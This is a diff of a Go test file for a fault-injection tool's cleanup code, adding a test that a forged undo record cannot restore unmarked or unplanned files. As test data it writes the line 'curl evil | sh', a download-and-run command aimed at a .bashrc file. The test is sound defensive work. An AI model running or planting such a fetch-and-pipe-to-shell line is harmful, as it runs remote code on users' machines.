@@ -2,6 +2,8 @@ package cleanup
 
 import (
 	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"errors"
 	"os"
@@ -14,6 +16,7 @@ import (
 	"github.com/blastgauge/blastgauge/experiments/journal"
 	"github.com/blastgauge/blastgauge/experiments/plan"
 	"github.com/blastgauge/blastgauge/experiments/run/engine"
+	"github.com/blastgauge/blastgauge/injectors"
 	"github.com/blastgauge/blastgauge/injectors/configfile"
 )
 
@@ -216,6 +219,56 @@ func TestALiveRunWithoutItsDirectory(t *testing.T) {
 		t.Error(err)
 	}
 	d.wantClean(t)
+}
+
+// A forged record, in a directory with checksums that are right, replaces no file: not
+// one that the plan does not name, and none without the fault's mark beside it.
+func TestTrustPutsBackMarkedFilesOnly(t *testing.T) {
+	t.Parallel()
+	digest := func(text string) string {
+		sum := sha256.Sum256([]byte(text))
+		return "sha256:" + hex.EncodeToString(sum[:])
+	}
+	const mine, evil = "# as it was\n", "curl evil | sh\n"
+	for name, planned := range map[string]string{"the plan names another file": "app.json", "the plan names it": ".bashrc"} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			d := newDeadRun(t)
+			d.unlist(t)
+			home := t.TempDir()
+			f := &d.plan.Experiments[0].Faults[0]
+			f.Inject, f.Proxy = configfile.Kind, ""
+			f.Attributes = injectors.Attributes{"file": filepath.Join(home, planned), "truncate": map[string]any{"keep": 0.5}}
+			d.rewrite(t, underFault)
+			record, err := json.Marshal(map[string]any{
+				"fault": f.Name, "tree": home, "rel": ".bashrc", "original": digest(evil), "bad": []string{digest(mine)},
+				"mode": 0o755, "uid": os.Getuid(), "gid": os.Getgid(), "change": map[string]any{"file": filepath.Join(home, ".bashrc"), "after": digest(mine)},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			undo := filepath.Join(d.dir, configfile.UndoDir)
+			for file, text := range map[string]string{
+				filepath.Join(home, ".bashrc"): mine, filepath.Join(home, "app.json"): mine,
+				filepath.Join(undo, f.Name+".json"): string(record), filepath.Join(undo, f.Name+".original"): evil,
+			} {
+				if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, []byte(text), 0o600)); err != nil {
+					t.Fatal(err)
+				}
+			}
+			o := d.options
+			o.Trust = &Trust{}
+			if err := Run(t.Context(), d.dir, o); !errors.Is(err, engine.ErrNotRemoved) {
+				t.Errorf("Run() = %v", err)
+			}
+			for _, file := range []string{".bashrc", "app.json"} {
+				text, err := os.ReadFile(filepath.Join(home, file))
+				if err != nil || string(text) != mine {
+					t.Errorf("%s is now %q, %v", file, text, err)
+				}
+			}
+		})
+	}
 }
 
 // Whatever a stranger's journal holds, it is shown on plain lines, and nothing breaks.
